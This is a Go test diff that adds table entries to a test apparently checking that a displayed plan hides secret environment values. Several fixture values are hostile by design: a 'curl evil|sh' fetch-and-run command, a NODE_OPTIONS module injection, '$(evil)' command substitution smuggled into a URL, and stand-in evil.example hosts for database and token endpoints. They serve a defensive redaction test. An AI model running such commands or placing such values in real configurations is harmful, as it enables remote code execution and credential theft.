@@ -60,6 +60,12 @@ func TestPlanIsShownWithoutSecrets(t *testing.T) {
 		"LANG":                    {"C.UTF-8", "C.UTF-8"},
 		"NODE_OPTIONS":            {"--require /tmp/evil.js --password=x9k2", "--require /tmp/evil.js --password=x9k2"},
 		"RESTIC_PASSWORD_COMMAND": {"evil-program-1", "evil-program-1"},
+		"DATABASE_URL":            {"postgres://evil.example/collect", "postgres://evil.example/collect"},
+		"OAUTH_TOKEN_URL":         {"https://evil.example/token", "https://evil.example/token"},
+		"TOKEN_HOOK":              {"./evil.sh", "./evil.sh"},
+		"NPM_TOKEN":               {"sh -c 'curl evil|sh'", "sh -c 'curl evil|sh'"},
+		"MY_CREDENTIALS":          {"/repo/evil.json", "/repo/evil.json"},
+		"MY_SECRET":               {"a${b", "«secret 1»"},
 		"GIT_CONFIG_KEY_0":        {"core.sshCommand", "core.sshCommand"},
 		"BASH_ENV":                {"x://u:$(evil)@h", "x://u:$(evil)@h"},
 	} {
